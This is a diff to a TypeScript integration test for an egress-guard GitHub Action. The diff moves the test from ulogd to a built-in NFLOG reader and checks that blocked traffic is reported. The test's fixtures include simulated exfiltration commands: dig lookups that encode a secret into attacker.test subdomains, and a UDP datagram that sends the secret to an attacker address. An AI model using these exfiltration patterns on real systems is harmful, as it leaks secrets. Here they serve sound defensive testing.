@@ -11,6 +11,7 @@ import { fileURLToPath } from 'node:url';
 import { after, before, describe, it } from 'node:test';
 import { EGRESS_BIN, NET, World, type InternetLogEntry } from './harness.js';
 import { renderSummaryInChromium } from './summary-in-chromium.js';
+import { waitFor } from '../helpers/wait-for.js';
 import type { CommandResult } from './netns.js';
 import { DOCKER_BRIDGE_ADDRESS, DOCKER_SOCKET, parseCommandFile, RESOLVED_STUB, SimulatedRunner, TOOLS_IMAGE, type Job } from './github-runner.js';
 
@@ -35,7 +36,8 @@ async function jobSteps(exec: Executor, world: World): Promise<StepResults> {
     preinstall: await exec(process.execPath, ['-e', preinstall], { CA: world.caFile }),
     dnsViaResolver: await exec('dig', ['+tries=1', '+time=3', `${SECRET}.exfil.attacker.test`]),
     dnsDirect: await exec('dig', ['+tries=1', '+time=3', `@${NET.dns}`, `${SECRET}.direct.attacker.test`]),
-    // UDP but DNS (QUIC-like) is not proxied: the rules refuse it in block mode, and ulogd makes it an event.
+    // UDP but DNS (QUIC-like) is not proxied: the rules refuse it in block mode, and the built-in NFLOG reader makes it
+    // an event (the simulated runner has ulogd installed; the action prefers its own reader, as on GitHub's images).
     udp: await exec(process.execPath, [
       '-e',
       `const s = require('dgram').createSocket('udp4'); s.send('${SECRET}', 9999, '${NET.attacker}', () => setTimeout(() => s.close(), 300));`,
@@ -184,6 +186,7 @@ describe('GitHub Action on a simulated GitHub-hosted runner', { timeout: 600_000
       assert.match(main.stdout, new RegExp(`resolv\\.conf \\(was a symlink to ${escapeRegExp(RESOLVED_STUB)}\\) now names egress-guard`));
       assert.equal(outputs(job).get('events-file'), '/var/lib/egress-guard/events.ndjson');
       assert.match(main.stdout, /containers on docker0, br-\+ redirected too \(IPv4; forwarded traffic filtered in DOCKER-USER\)/);
+      assert.match(main.stdout, /packets the rules refuse or report are read by its built-in NFLOG reader/);
       const since = Date.now();
       assertAttacksRefused(await jobSteps(asJobStep(runner, job), world), 'job step');
       // The same from containers the job starts: `docker run` on the default bridge, on a network made now (a new
@@ -223,12 +226,14 @@ describe('GitHub Action on a simulated GitHub-hosted runner', { timeout: 600_000
 
       const post = await runner.runAction(job, 'post');
       assert.notEqual(post.code, 0, `post passed despite fail-on-block:\n${post.stdout}`);
+      // post sends SIGTERM; the reader ends within its read's wait.
+      await waitFor('post to stop the NFLOG reader', async () => (await runner.asRoot('pgrep', ['-f', 'egress-guard.js rules log-reader'])).code === 1, 5_000);
       assert.match(post.stdout, /^::error::egress-guard: \d+ destination\(s\) blocked, and fail-on-block is set: .*attacker\.test:53/m);
       // The name is refused at the lookup (dns-policy), so curl and https.get never connect: the DNS rows.
       assert.match(post.stdout, annotation('error', 'blocked', 'attacker\\.test:53'));
       assert.match(post.stdout, annotation('error', 'blocked', `${escapeRegExp(NET.rawOnly)}:443`));
       assert.match(post.stdout, annotation('error', 'blocked', `${SECRET.toLowerCase()}\\.exfil\\.attacker\\.test:53`));
-      assert.match(post.stdout, annotation('error', 'blocked', `${escapeRegExp(NET.attacker)}:9999`), 'no event for the UDP datagram (ulogd)');
+      assert.match(post.stdout, annotation('error', 'blocked', `${escapeRegExp(NET.attacker)}:9999`), 'no event for the UDP datagram (the built-in NFLOG reader)');
       assert.doesNotMatch(post.stdout, /^::(error|warning) title=egress-guard [a-z-]+%3A allowed\.test/m);
       const blockedCount = Number(outputs(job).get('blocked-count'));
       assert.ok(blockedCount >= 3, `blocked-count ${blockedCount}`);
